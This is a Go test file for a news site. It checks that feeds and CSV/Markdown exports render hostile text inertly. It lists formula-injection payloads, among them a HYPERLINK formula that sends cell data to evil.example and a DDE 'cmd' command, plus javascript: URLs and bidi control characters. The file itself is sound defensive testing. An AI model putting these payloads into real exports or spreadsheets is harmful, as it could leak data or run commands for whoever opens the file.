package web_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"edict/news"
)

func jsonOf(v any) (json.RawMessage, error) { return json.Marshal(v) }

// formulas are what a spreadsheet would work out.
var formulas = []string{
	"=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", "\r=1+2", `=HYPERLINK("https://evil.example?"&A1,"open")`, "=cmd|' /C calc'!A0", "＝1+2", "＋1", "－1", "＠SUM(1)", " =1+2", "'=1+2", "\n=1+2",
}

// poisonedMeasure is a record whose measure has text in each field that an export shows.
func poisonedMeasure(p string) news.Record {
	c := news.Content{
		URL: "https://evil.example/x", Source: "evil", Title: p, Summary: p, Text: p + " is banned.\n" + p, Authors: []string{p}, Published: now, Fetched: now.Add(time.Minute), Language: p,
	}
	r := news.NewRecord(news.NewArticle(c, false), news.RuleSet{Version: p, Hash: p})
	r = tagged(r, crack, "CN", news.Stage(p), news.Auto, .9, p, p)
	r.Story = p
	return r
}

// A feed tells what pages and people wrote as plain text, in the elements and members that
// are for that, whatever it is.
func TestFeedsHoldText(t *testing.T) {
	elements := strings.Fields("feed id title updated author name link entry published category summary")
	for i, p := range append(slices.Clone(payloads), formulas...) {
		r := poisonedMeasure(p)
		if i%2 == 1 {
			r.URL = "javascript:alert(1)//" + p
		}
		s := newShelf(r)
		s.sources = []news.Source{{Slug: "evil", Name: p, Kind: news.Press}}
		mail := newMailShelf(p, r)
		server := site(t, s, mail.of)
		for _, path := range []string{"/feeds/a", "/feeds/label/mining_crackdown", "/feeds/place/CN"} {
			raw := get(t, server, path+".atom", http.StatusOK)
			title := ""
			in := xml.NewDecoder(strings.NewReader(raw))
			for stack := []string{}; ; {
				token, err := in.Token()
				if errors.Is(err, io.EOF) {
					break
				}
				ok(t, err)
				switch e := token.(type) {
				case xml.StartElement:
					stack = append(stack, e.Name.Local)
					if !slices.Contains(elements, e.Name.Local) {
						t.Errorf("%s, %q: an element %s", path, p, e.Name.Local)
					}
					for _, a := range e.Attr {
						switch {
						case a.Name.Local == "href" && !strings.HasPrefix(a.Value, "http://127.0.0.1:8080/") && !strings.HasPrefix(a.Value, "https://evil.example/"):
							t.Errorf("%s, %q: a link to %s", path, p, a.Value)
						case !slices.Contains([]string{"href", "rel", "term", "xmlns"}, a.Name.Local):
							t.Errorf("%s, %q: %s=%q of %s", path, p, a.Name.Local, a.Value, e.Name.Local) // such as type="html"
						}
					}
				case xml.EndElement:
					stack = stack[:len(stack)-1]
				case xml.CharData:
					if strings.Join(stack, " ") == "feed entry title" {
						title += string(e)
					}
				case xml.Comment, xml.Directive:
					t.Errorf("%s, %q: %v", path, p, e)
				}
			}
			if want := turned.ReplaceAllString(p, "\uFFFD"); title != want && strings.TrimSpace(title) != strings.TrimSpace(want) {
				t.Errorf("%s: the title %q is not %q", path, title, want)
			}
			var j map[string]any
			text := get(t, server, path+".json", http.StatusOK)
			ok(t, json.Unmarshal([]byte(text), &j))
			item := j["items"].([]any)[0].(map[string]any)
			if _, has := item["content_html"]; has || item["title"] != turned.ReplaceAllString(p, "\uFFFD") {
				t.Errorf("%s, %q: %v", path, p, item)
			}
			if out, has := item["external_url"].(string); has && !strings.HasPrefix(out, "https://evil.example/") {
				t.Errorf("%s, %q: a link to %s", path, p, out)
			}
			if turned.MatchString(raw + text) {
				t.Errorf("%s, %q turns the direction of what follows", path, p)
			}
		}
	}
}

var turned = regexp.MustCompile("[\u202A-\u202E\u2066-\u2069]")

// What is exported is text where it is opened: no cell is a formula, and Markdown holds no
// markup but ours.
func TestExportsHoldText(t *testing.T) {
	escaped := regexp.MustCompile(`\\[!-/:-@\[-` + "`" + `{-~]`)
	ours := regexp.MustCompile(`(?m)^(# |## |> )|\]\(<https://evil\.example/[^<>\s]*>\)|(^|, |\n)\[`)
	for _, p := range append(slices.Clone(payloads), formulas...) {
		r := poisonedMeasure(p)
		s := newShelf(r)
		s.sources = []news.Source{{Slug: "evil", Name: p, Kind: news.Press}}
		server := site(t, s)
		rows, err := csv.NewReader(strings.NewReader(get(t, server, "/places/CN/measures.csv", http.StatusOK))).ReadAll()
		ok(t, err)
		if len(rows) != 2 {
			t.Fatalf("%q made %d rows", p, len(rows))
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsAny(string([]rune(cell)[:1]), "=+-@\t\r\n＝＋－＠") {
				t.Errorf("%q: the cell of %s is a formula: %q", p, rows[0][i], cell)
			}
			if turned.MatchString(cell) {
				t.Errorf("%q turns the direction of a cell", p)
			}
		}
		text := get(t, server, "/places/CN/measures.md", http.StatusOK)
		left := ours.ReplaceAllString(escaped.ReplaceAllString(text, ""), "")
		for _, sign := range []string{"<", ">", "[", "]", "`", "*", "_", "|", "#", "://", "www.", "javascript:", "{{"} {
			if strings.Contains(left, sign) {
				t.Errorf("%q: %q stands in the Markdown:\n%s", p, sign, text)
			}
		}
		if n := strings.Count(text, "\n"); n > 12 || strings.ContainsAny(text, "\r\u2028\u2029") {
			t.Errorf("%q makes lines of its own:\n%s", p, text)
		}
	}
}
